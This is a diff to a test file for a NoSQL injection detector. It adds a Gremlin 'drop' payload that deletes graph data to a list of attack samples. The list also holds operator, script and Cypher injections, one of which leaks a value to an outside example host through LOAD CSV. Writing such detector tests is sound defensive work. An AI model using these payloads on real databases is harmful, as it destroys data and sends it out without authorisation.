@@ -3,6 +3,7 @@ import { detectNoSql } from './detect-nosql.ts';
 
 describeDetector('detectNoSql', detectNoSql, {
   attacks: [
+    ['g.V().drop()', 'graph'],
     ['{"$eq":1}', 'operator'],
     ['function(){return true}', 'script'],
     ["' LOAD CSV FROM 'http://a.example/'+1 AS l RETURN l//", 'cypher'],
